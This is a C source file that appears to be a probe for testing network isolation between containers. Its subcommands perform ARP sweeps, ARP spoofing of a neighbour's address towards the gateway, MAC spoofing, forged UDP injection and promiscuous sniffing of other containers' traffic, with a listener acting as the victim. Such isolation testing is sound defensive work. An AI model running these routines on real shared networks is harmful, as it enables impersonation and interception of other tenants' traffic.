/*
 * What root in a container tries against its neighbours in a network, with the rights of a hosted container.
 *
 *   listen PORT               accepts clients and prints each datagram; this is the victim's side
 *   connect ADDRESS PORT      "reached" if a connection succeeds
 *   ask ADDRESS               "answered" if ARP resolves the address
 *   sweep SECONDS             resolves its whole network from its start, and prints who answers
 *   inject ADDRESS PORT       has the gateway deliver a datagram to a neighbour
 *   claim ADDRESS             claims a neighbour's address towards the gateway for a second
 *   hurry ADDRESS PORT        both from its start, for two seconds; then it waits
 *   steal MAC                 sends for a second from a neighbour's MAC address
 *   caught PORT SECONDS       prints how many frames to another container's port arrived
 */

#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <net/if_arp.h>
#include <netinet/if_ether.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <netpacket/packet.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

typedef struct {
  unsigned char mac[6];
  struct in_addr address, gateway;
  int index;
} self;

static int64_t now(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return time.tv_sec * INT64_C(1000) + time.tv_nsec / 1000000;
}

static void must(int result, const char *what) {
  if (result >= 0) return;
  perror(what);
  exit(1);
}

static self look(void) {
  self self = {0};
  struct ifreq request = {.ifr_name = "eth0"};
  int fd = socket(AF_INET, SOCK_DGRAM, 0);
  must(ioctl(fd, SIOCGIFHWADDR, &request), "eth0");
  memcpy(self.mac, request.ifr_hwaddr.sa_data, 6);
  must(ioctl(fd, SIOCGIFADDR, &request), "address");
  self.address = ((struct sockaddr_in *)&request.ifr_addr)->sin_addr;
  self.gateway = (struct in_addr){htonl((ntohl(self.address.s_addr) & 0xffff0000) + 1)};
  must(ioctl(fd, SIOCGIFINDEX, &request), "index");
  self.index = request.ifr_ifindex;
  close(fd);
  return self;
}

static int open_raw(const self *self, int protocol) {
  struct sockaddr_ll address = {.sll_family = AF_PACKET, .sll_protocol = htons(protocol), .sll_ifindex = self->index};
  int fd = socket(AF_PACKET, SOCK_RAW, htons(protocol));
  must(fd, "raw socket");
  must(bind(fd, (struct sockaddr *)&address, sizeof address), "bind");
  return fd;
}

typedef struct __attribute__((packed)) {
  struct ether_header ethernet;
  struct ether_arp arp;
} arp_frame;

static void send_arp(int fd, const self *self, int operation, struct in_addr from, struct in_addr to) {
  arp_frame frame = {.ethernet.ether_type = htons(ETHERTYPE_ARP),
                     .arp.ea_hdr = {htons(ARPHRD_ETHER), htons(ETHERTYPE_IP), 6, 4, htons(operation)}};
  memset(frame.ethernet.ether_dhost, 0xff, 6);
  memcpy(frame.ethernet.ether_shost, self->mac, 6);
  memcpy(frame.arp.arp_sha, self->mac, 6);
  memcpy(frame.arp.arp_spa, &from, 4);
  memcpy(frame.arp.arp_tpa, &to, 4);
  (void)!write(fd, &frame, sizeof frame);
}

/* @returns whether somebody has answered, with the sender and its address in `answer` */
static int hear_arp(int fd, int milliseconds, arp_frame *answer) {
  for (int64_t end = now() + milliseconds, left; (left = end - now()) > 0;) {
    struct pollfd one = {.fd = fd, .events = POLLIN};
    if (poll(&one, 1, (int)left) <= 0) return 0;
    if (read(fd, answer, sizeof *answer) >= (ssize_t)sizeof *answer && answer->arp.ea_hdr.ar_op == htons(ARPOP_REPLY))
      return 1;
  }
  return 0;
}

static int resolve(const self *self, struct in_addr address, unsigned char *mac) {
  arp_frame answer;
  int fd = open_raw(self, ETH_P_ARP), is_there = 0;
  for (int attempt = 0; attempt < 3 && !is_there; attempt++) {
    send_arp(fd, self, ARPOP_REQUEST, self->address, address);
    is_there = hear_arp(fd, 300, &answer) && memcmp(answer.arp.arp_spa, &address, 4) == 0;
  }
  close(fd);
  if (is_there) memcpy(mac, answer.arp.arp_sha, 6);
  return is_there;
}

static void sweep(int seconds) {
  self self = look();
  arp_frame answer;
  int fd = open_raw(&self, ETH_P_ARP);
  char has_answered[256] = {0};
  for (int64_t end = now() + 1000 * seconds; now() < end;) {
    for (int host = 2; host < 32; host++) {
      struct in_addr to = {htonl(ntohl(self.gateway.s_addr) - 1 + host)};
      if (to.s_addr != self.address.s_addr) send_arp(fd, &self, ARPOP_REQUEST, self.address, to);
    }
    while (hear_arp(fd, 20, &answer)) {
      if (memcmp(answer.arp.arp_spa, &self.gateway, 4) == 0 || has_answered[answer.arp.arp_spa[3]]++) continue;
      printf("answered: %s\n", inet_ntoa(*(struct in_addr *)answer.arp.arp_spa));
    }
  }
  printf("swept\n");
}

static void try_connect(struct in_addr host, int port) {
  struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(port), .sin_addr = host};
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0), error = 0;
  socklen_t length = sizeof error;
  connect(fd, (struct sockaddr *)&address, sizeof address);
  struct pollfd one = {.fd = fd, .events = POLLOUT};
  int is_told = poll(&one, 1, 1500) > 0;
  getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &length);
  puts(is_told && error == 0 ? "reached" : "nothing");
}

static uint16_t sum(const void *data, size_t size) {
  uint32_t total = 0;
  const uint16_t *words = data;
  for (size_t i = 0; i < size / 2; i++) total += words[i];
  while (total >> 16) total = (total & 0xffff) + (total >> 16);
  return ~total;
}

typedef struct __attribute__((packed)) {
  struct ether_header ethernet;
  struct iphdr ip;
  struct udphdr udp;
  char data[8];
} datagram;

static datagram make_datagram(const self *self, struct in_addr to, int port) {
  datagram frame = {.ethernet.ether_type = htons(ETHERTYPE_IP),
                    .ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP, .saddr = self->address.s_addr, .daddr = to.s_addr},
                    .udp = {.source = htons(7), .dest = htons(port), .len = htons(16)},
                    .data = "injected"};
  memcpy(frame.ethernet.ether_shost, self->mac, 6);
  if (!resolve(self, self->gateway, frame.ethernet.ether_dhost)) must(-1, "the gateway is silent");
  frame.ip.tot_len = htons(sizeof frame - sizeof frame.ethernet);
  frame.ip.check = sum(&frame.ip, sizeof frame.ip);
  return frame;
}

static void inject(struct in_addr to, int port) {
  self self = look();
  datagram frame = make_datagram(&self, to, port);
  int fd = open_raw(&self, ETH_P_IP);
  for (int i = 0; i < 5; i++) must(write(fd, &frame, sizeof frame), "inject");
  puts("sent");
}

static void claim_once(int fd, const self *self, struct in_addr address) {
  send_arp(fd, self, ARPOP_REPLY, address, self->gateway);
  send_arp(fd, self, ARPOP_REQUEST, address, self->gateway);
}

static void claim(struct in_addr address) {
  self self = look();
  int fd = open_raw(&self, ETH_P_ARP);
  for (int64_t end = now() + 1000; now() < end; usleep(10000)) claim_once(fd, &self, address);
  puts("claimed");
}

static void hurry(struct in_addr address, int port) {
  self self = look();
  datagram frame = make_datagram(&self, address, port);
  int fd = open_raw(&self, ETH_P_ARP);
  for (int64_t end = now() + 2000; now() < end; usleep(500)) {
    (void)!write(fd, &frame, sizeof frame);
    claim_once(fd, &self, address);
  }
  puts("hurried");
  fflush(stdout);
  pause();
}

static void steal(const char *mac) {
  self self = look();
  unsigned char *b = self.mac;
  int fd = open_raw(&self, ETH_P_ARP);
  if (sscanf(mac, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", b, b + 1, b + 2, b + 3, b + 4, b + 5) != 6) exit(1);
  for (int64_t end = now() + 1000; now() < end; usleep(1000))
    send_arp(fd, &self, ARPOP_REQUEST, self.address, self.gateway);
  puts("stolen");
}

static void catch(int port, int seconds) {
  self self = look();
  unsigned char frame[2048];
  int fd = open_raw(&self, ETH_P_ALL), count = 0;
  struct packet_mreq everything = {.mr_ifindex = self.index, .mr_type = PACKET_MR_PROMISC};
  setsockopt(fd, SOL_PACKET, PACKET_ADD_MEMBERSHIP, &everything, sizeof everything);
  puts("listens");
  fflush(stdout);
  for (int64_t end = now() + 1000 * seconds, left; (left = end - now()) > 0;) {
    struct pollfd one = {.fd = fd, .events = POLLIN};
    if (poll(&one, 1, (int)left) <= 0) break;
    if (read(fd, frame, sizeof frame) < 38 || frame[12] != 8 || frame[13] != 0) continue;
    if (memcmp(frame + 30, &self.address, 4) != 0 && frame[36] == port >> 8 && frame[37] == (port & 255)) count++;
  }
  printf("caught %d\n", count);
}

static void serve(int port) {
  struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(port)};
  int clients = socket(AF_INET, SOCK_STREAM, 0), datagrams = socket(AF_INET, SOCK_DGRAM, 0), on = 1;
  setsockopt(clients, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
  must(bind(clients, (struct sockaddr *)&address, sizeof address), "bind");
  must(bind(datagrams, (struct sockaddr *)&address, sizeof address), "bind");
  must(listen(clients, 16), "listen");
  puts("listens");
  for (struct pollfd both[2] = {{.fd = clients, .events = POLLIN}, {.fd = datagrams, .events = POLLIN}};;) {
    char data[64] = {0};
    fflush(stdout);
    if (poll(both, 2, -1) <= 0) continue;
    if (both[0].revents) close(accept(clients, NULL, NULL));
    if (both[1].revents && read(datagrams, data, sizeof data - 1) >= 0) printf("got %s\n", data);
  }
}

int main(int count, char **words) {
  signal(SIGTERM, _exit);
  const char *act = count > 1 ? words[1] : "";
  struct in_addr address = {0};
  unsigned char mac[6];
  if (count > 2) inet_aton(words[2], &address);
  if (strcmp(act, "listen") == 0 && count > 2) serve(atoi(words[2]));
  else if (strcmp(act, "connect") == 0 && count > 3) try_connect(address, atoi(words[3]));
  else if (strcmp(act, "ask") == 0 && count > 2) {
    self self = look();
    puts(resolve(&self, address, mac) ? "answered" : "nothing");
  } else if (strcmp(act, "sweep") == 0 && count > 2) sweep(atoi(words[2]));
  else if (strcmp(act, "inject") == 0 && count > 3) inject(address, atoi(words[3]));
  else if (strcmp(act, "claim") == 0 && count > 2) claim(address);
  else if (strcmp(act, "hurry") == 0 && count > 3) hurry(address, atoi(words[3]));
  else if (strcmp(act, "steal") == 0 && count > 2) steal(words[2]);
  else if (strcmp(act, "caught") == 0 && count > 3) catch(atoi(words[2]), atoi(words[3]));
  else return 2;
}
